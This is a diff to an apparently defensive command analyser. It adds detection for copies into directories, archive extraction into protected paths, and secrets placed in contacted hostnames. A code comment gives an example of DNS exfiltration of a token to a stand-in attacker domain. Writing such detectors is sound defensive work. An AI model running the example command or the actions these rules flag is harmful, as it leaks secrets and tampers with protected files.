@@ -187,7 +187,31 @@ class _Command:
                     return
 
     def write(self, w: Word, how: str = "written") -> None:
+        path = self.path(w.value)
+        if path and os.path.isdir(path) and w.option is None and self.inv is not None:
+            # `cp SRC... DIR`: what is written is DIR/basename(SRC) for each source.
+            sources = [
+                x.value
+                for x in self.inv.words
+                if x.role in ("read", "upload", "write") and x is not w and x.option is None
+            ]
+            for src in sources:
+                self.wrote(
+                    os.path.join(w.value, os.path.basename(src.rstrip("/"))), how, (w.value,)
+                )
         self.wrote(w.value, how, (w.value,))
+
+    def into(self, w: Word) -> None:
+        """Files of names the line does not show are written below DIR (`unzip -d DIR`,
+        `tar -x -C DIR`): every protected path below DIR may be among them."""
+        path = self.path(w.value)
+        if not path:
+            return
+        for cls in ("self-tamper", "privilege", "persistence"):
+            hit = self.ctx.classes.hit(cls, path, None) or self.ctx.classes.below(cls, path)
+            if hit:
+                self.add("write", f"writes files below {path} ({hit})", cls, (w.value,))
+                return
 
     def wrote(self, word: str, how: str, anchor: tuple[str, ...]) -> None:
         path = self.path(word)
@@ -266,6 +290,10 @@ class _Command:
                 return
 
     def contact(self, w: Word) -> None:
+        for name in _variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
+            if self.ctx.classes.secret_variable(name):
+                self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
+                return
         if w.value.lower().startswith("file://"):  # a local read, however the URL is spelled
             self.read(_word("read", w.value[7:] or "/", w))
             return
@@ -417,6 +445,7 @@ _ROLES = {
     "mode": _Command.mode,
     "program": _Command.program,
     "printed": _Command.printed,
+    "into": _Command.into,
     "dest": _Command.dest,
     "meta": _Command.meta,
     "owner": _Command.owner,
